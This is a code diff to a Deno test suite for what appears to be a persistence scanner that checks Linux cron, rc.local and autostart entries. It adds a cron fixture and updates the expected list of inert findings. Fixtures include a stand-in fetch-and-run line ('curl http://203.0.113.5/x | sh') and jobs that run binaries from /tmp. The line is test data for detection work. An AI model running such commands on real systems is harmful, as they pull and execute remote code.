@@ -142,6 +142,7 @@ Deno.test("persistence: normal entries stay quiet (own home, root-owned programs
     "etc/rc.d/rc.local": { content: "#!/bin/bash\ntouch /var/lock/subsys/local\nexit 0\n", mode: 0o755 },
     "home/bob/.config/autostart/y.desktop": "[Desktop Entry]\nExec=/tmp/y\nHidden=true\n",
     "usr/local/bin/app-cron": { content: "#!/bin/sh\n", mode: 0o755 },
+    "etc/cron.d/app.dpkg-old": "* * * * * root /tmp/old\n",
     "etc/cron.daily/old.dpkg-old": { content: "#!/bin/sh\ncurl http://203.0.113.5/x | sh\n", mode: 0o755 },
     "etc/cron.daily/disabled": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o644 },
     "etc/cron.daily/active": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o755 },
@@ -154,7 +155,12 @@ Deno.test("persistence: normal entries stay quiet (own home, root-owned programs
   ]);
   const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
   const inert = inv.findings.filter((f) => f.metadata.inert === true).map((f) => f.metadata.path).sort();
-  assert.deepEqual(inert, ["/etc/cron.daily/disabled", "/etc/cron.daily/old.dpkg-old", "/etc/rc.local"]);
+  assert.deepEqual(inert, [
+    "/etc/cron.d/app.dpkg-old",
+    "/etc/cron.daily/disabled",
+    "/etc/cron.daily/old.dpkg-old",
+    "/etc/rc.local",
+  ]);
 });
 
 Deno.test("persistence: LD_PRELOAD in start-up files and ld.so.preload entries are judged by location", async () => {
